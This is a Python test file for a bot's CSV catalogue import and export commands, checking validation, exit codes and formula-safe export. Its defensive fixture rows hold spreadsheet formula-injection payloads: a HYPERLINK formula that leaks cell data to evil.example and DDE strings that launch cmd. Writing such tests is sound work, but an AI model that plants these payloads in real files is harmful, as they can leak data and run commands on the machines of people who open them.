"""`python -m bot import-catalogue FILE.csv` and `export-catalogue FILE.csv`, run as an
admin would run them: a real process, a real DATA_DIR, real files. Nothing a spreadsheet
could run as a formula comes out of the export."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.clock import SystemClock
from bot.journeys.procurement.admin import IMPORTED
from bot.journeys.procurement.sample_catalogue import SAMPLE
from bot.journeys.procurement.shared import FILE_NAME
from bot.journeys.procurement.store_sqlite import SqliteProcurementStore
from bot.store.working import SqliteWorkingState

REPO = Path(__file__).resolve().parents[2]
HEADER = "Id,System,Supplier,Owner,Capabilities,Description,Contract end,Licences\n"
GOOD_ROWS = (
    "tascomi,Tascomi Licensing,Idox,Sam Lee,licensing; inspections,Licences,31/03/2027,120\n"
    'abavus,Abavus Report It,Abavus,Kim Ray,"fault reporting; forms",Reports,2027-06-30,40\n'
)
MALICIOUS_ROWS = (
    'evil-link,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Evil Ltd,Eve,'
    "links,Looks harmless,,1\n"
    "evil-cmd,Cmd Runner,+cmd|' /C calc'!A0,Eve,commands,Runs things,,1\n"
    "evil-sum,Summer,Sums Ltd,@SUM(1+1)*cmd|' /C calc'!A0,sums,-1+2,,1\n"
    "evil-minus,-1+2,Minus Ltd,Eve,=1+1; @SUM(A1),\t=cmd,,1\n"
)
BAD_ROWS = (
    "bad-date,Bad Date System,Acme,Pat,things,Text,31/02/2027,10\n"
    ",,,,,,,\n"  # blank: skipped, not a problem
    "bad-count,Bad Count System,Acme,Pat,things,Text,2027-01-01,lots\n"
)


def cli(data_dir: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    environment = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("BOT_", "PROCUREMENT_", "GRAPH_", "SHAREPOINT_"))
    }
    environment.update({"DATA_DIR": str(data_dir), "PYTHONPATH": str(REPO), **env})
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        cwd=REPO,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_good_bad_and_malicious_rows_and_a_formula_safe_export(tmp_path: Path) -> None:
    data = tmp_path / "data"
    source = tmp_path / "cmdb.csv"
    source.write_text(HEADER + GOOD_ROWS + MALICIOUS_ROWS + BAD_ROWS, encoding="utf-8")

    done = cli(data, "import-catalogue", str(source))

    assert done.returncode == 2, done.stderr  # some rows were refused: bad input
    assert f"Imported 6 systems from {source}. The catalogue now has 6 systems." in done.stderr
    assert "The sample data is gone." in done.stderr
    assert "2 rows were not imported:" in done.stderr
    assert "Line 8:" in done.stderr and "Line 10:" in done.stderr
    assert "Line 9" not in done.stderr  # the blank row

    out = tmp_path / "export.csv"
    exported = cli(data, "export-catalogue", str(out))

    assert exported.returncode == 0, exported.stderr
    assert f"Exported 6 systems to {out}." in exported.stdout
    rows = cells(out)
    assert len(rows) == 7
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[1] for row in rows[1:]}
    assert "'-1+2" in names  # kept as text, not dropped
    assert any("HYPERLINK" in name for name in names)


def test_a_clean_file_exits_0_and_the_export_imports_again(tmp_path: Path) -> None:
    data = tmp_path / "data"
    source = tmp_path / "cmdb.csv"
    source.write_bytes(("\ufeff" + HEADER + GOOD_ROWS).encode("utf-8"))  # Excel's CSV UTF-8

    done = cli(data, "import-catalogue", str(source))
    assert done.returncode == 0, done.stderr
    assert "Imported 2 systems" in done.stdout and "The sample data is gone." in done.stdout

    out = tmp_path / "export.csv"
    assert cli(data, "export-catalogue", str(out)).returncode == 0
    again = cli(data, "import-catalogue", str(out))
    assert again.returncode == 0, again.stderr
    assert "The catalogue now has 2 systems." in again.stdout
    assert "sample data" not in again.stdout


async def test_an_import_is_recorded_for_the_catalogue_card(tmp_path: Path) -> None:
    data = tmp_path / "data"
    source = tmp_path / "cmdb.csv"
    source.write_text(HEADER + GOOD_ROWS, encoding="utf-8")
    assert cli(data, "import-catalogue", str(source)).returncode == 0

    working = SqliteWorkingState(data / "digital-front-door.sqlite3", SystemClock())
    await working.open()
    try:
        records = await working.records(IMPORTED)
    finally:
        await working.close()
    assert [record.data for record in records] == [{"systems": 2, "problems": 0}]


def test_a_fresh_data_dir_exports_the_sample(tmp_path: Path) -> None:
    out = tmp_path / "sample.csv"

    done = cli(tmp_path / "data", "export-catalogue", str(out))

    assert done.returncode == 0, done.stderr
    assert len(cells(out)) == len(SAMPLE) + 1


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (None, "Could not read"),
        (b"", "is empty"),
        (b"PK\x03\x04" + bytes(range(256)) * 4, "is not a CSV file"),
        (b"Name of thing,Who sells it\nA,B\n", "Nothing was imported"),
        (b"System,Supplier\n", "Nothing was imported"),
    ],
)
async def test_bad_files_exit_2_and_change_nothing(
    tmp_path: Path, content: bytes | None, said: str
) -> None:
    data = tmp_path / "data"
    source = tmp_path / "cmdb.csv"
    if content is not None:
        source.write_bytes(content)

    done = cli(data, "import-catalogue", str(source))

    assert done.returncode == 2
    assert said in done.stderr
    assert await stored(data) == []  # the catalogue was not even opened


async def stored(data: Path) -> list[str]:
    """The ids in the procurement journey's SQLite file, if it was made."""
    path = data / FILE_NAME
    if not path.exists():
        return []
    store = SqliteProcurementStore(path)
    await store.open()
    try:
        return [entry.id for entry in await store.entries()]
    finally:
        await store.close()


@pytest.mark.parametrize(
    ("args", "env", "said"),
    [
        (["import-catalogue"], {}, "Usage:"),
        (["export-catalogue", "a.csv", "b.csv"], {}, "Usage:"),
        (["import-catalogue", "x.csv"], {"BOT_MODE": "bogus"}, "Fix these settings"),
        ([], {"BOT_MODE": "bogus"}, "Digital Front Door cannot start"),  # the service, as before
    ],
)
def test_wrong_arguments_and_settings_exit_2(
    tmp_path: Path, args: list[str], env: dict[str, str], said: str
) -> None:
    done = cli(tmp_path / "data", *args, **env)

    assert done.returncode == 2
    assert said in done.stderr


def test_an_export_into_a_missing_folder_says_so(tmp_path: Path) -> None:
    done = cli(tmp_path / "data", "export-catalogue", str(tmp_path / "no" / "such" / "x.csv"))

    assert done.returncode == 2
    assert "Could not write" in done.stderr


def test_an_import_removes_systems_not_in_the_file_and_add_removes_nothing(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    first = tmp_path / "first.csv"
    first.write_text(HEADER + GOOD_ROWS + "old-crm,Old CRM,Acme,Pat,crm,Retired,,1\n")
    assert cli(data, "import-catalogue", str(first)).returncode == 0
    part = tmp_path / "part.csv"
    part.write_text(HEADER + "civica,Civica Pay,Civica,Jo,payments,Pays,,1\n")

    added = cli(data, "import-catalogue", "--add", str(part))

    assert added.returncode == 0, added.stderr
    assert "Added or updated 1 system" in added.stdout and "now has 4 systems" in added.stdout
    assert "Nothing was removed" in added.stdout

    later = tmp_path / "later.csv"
    later.write_text(
        HEADER
        + "tascomi,Tascomi Licensing,Idox,Sam Lee,licensing,Licences,31/03/2027,120\n"
        + "abavus,Abavus Report It,Abavus,Kim Ray,forms,Reports,31/02/2027,40\n"  # a typo
    )
    done = cli(data, "import-catalogue", str(later))

    assert done.returncode == 2, done.stderr  # a bad row: the good ones went in
    assert "Imported 1 system" in done.stderr and "now has 2 systems" in done.stderr
    assert "Removed 2 systems that are not in the file:" in done.stderr
    assert "Civica Pay (civica)" in done.stderr and "Old CRM (old-crm)" in done.stderr
    assert "kept as they were" in done.stderr and "Line 3:" in done.stderr


@pytest.mark.parametrize(
    "args", [["import-catalogue", "--add"], ["export-catalogue", "--add", "x.csv"]]
)
def test_add_needs_a_file_and_is_for_imports_only(tmp_path: Path, args: list[str]) -> None:
    done = cli(tmp_path / "data", *args)

    assert done.returncode == 2
    assert "Usage:" in done.stderr
